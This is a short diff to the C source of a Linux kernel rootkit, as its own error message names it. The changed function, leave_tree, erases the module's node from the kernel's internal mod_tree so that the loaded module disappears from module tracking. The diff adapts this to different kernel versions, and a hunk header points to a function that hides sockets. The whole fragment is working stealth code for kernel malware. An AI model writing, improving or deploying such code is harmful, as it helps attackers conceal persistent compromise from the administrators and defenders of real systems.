@@ -163,19 +163,19 @@ static int hide_sockets(void)
 
 static void leave_tree(void)
 {
+	static const struct latch_tree_ops none; /* erasing compares nothing */
 	struct latch_tree_root *root = (void *)lookup("mod_tree");
-	const struct latch_tree_ops *ops = (void *)lookup("mod_tree_ops");
 
-	if (!root || !ops) {
+	if (!root) {
 		pr_err("rootkit: no mod_tree\n");
 		return;
 	}
 #if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
 	for_class_mod_mem_type(type, core)
 		if (THIS_MODULE->mem[type].size)
-			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, root, ops);
+			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, root, &none);
 #else
-	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, ops);
+	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, root, &none);
 #endif
 }
 
